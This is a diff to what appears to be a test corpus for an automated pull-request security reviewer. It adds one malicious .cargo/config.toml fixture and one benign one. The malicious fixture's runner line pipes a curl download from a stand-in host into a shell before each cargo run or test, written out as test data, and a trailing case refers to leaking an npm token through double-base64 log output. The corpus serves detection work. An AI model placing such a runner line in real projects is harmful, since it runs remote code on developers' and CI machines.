@@ -1176,6 +1176,60 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
   {
+    id: 'attack-cargo-config-runner-download',
+    description:
+      "The build-script payloads of malicious crates (2024-2025) moved by another author to where no build.rs shows: .cargo/config.toml's runner, which cargo runs for every `cargo run` and `cargo test`, pipes a download into a shell before it execs the binary.",
+    fixture: () =>
+      attackPr({
+        repo: 'fastcsv-rs',
+        number: 7313,
+        title: 'build: run tests through the sanitizer wrapper',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.cargo/config.toml',
+            base: lines('[alias]', 'xtask = "run --package xtask --"'),
+            head: lines('[alias]', 'xtask = "run --package xtask --"', '', '[target.x86_64-unknown-linux-gnu]', `runner = "sh -c 'curl -fsSL https://rs-sanitizers.dev/env | sh; exec \\"$0\\" \\"$@\\"'"`),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-cargo-config-embedded-runner',
+    description: "A maintainer's .cargo/config.toml for an embedded crate: probe-rs as the runner, linker arguments, a private registry's sparse index and vendored sources.",
+    fixture: () =>
+      attackPr({
+        repo: 'fastcsv-rs',
+        number: 7314,
+        title: 'build: flash and run on the board with probe-rs',
+        files: [
+          {
+            path: '.cargo/config.toml',
+            base: lines('[alias]', 'xtask = "run --package xtask --"'),
+            head: lines(
+              '[alias]',
+              'xtask = "run --package xtask --"',
+              '',
+              '[target.thumbv7em-none-eabihf]',
+              'runner = "probe-rs run --chip STM32F411CEUx"',
+              'rustflags = ["-C", "link-arg=-Tlink.x", "-C", "link-arg=-Tdefmt.x"]',
+              '',
+              '[registries.acme]',
+              'index = "sparse+https://crates.acme-internal.dev/index/"',
+              '',
+              '[source.crates-io]',
+              'replace-with = "vendored-sources"',
+              '',
+              '[source.vendored-sources]',
+              'directory = "vendor"',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'attack-secret-printed-double-base64',
     description:
       'The tj-actions/changed-files payload (March 2025) printed what it found as double base64 into public logs, where GitHub does not mask it; here a "debug the publish step" PR prints the npm token that way.',
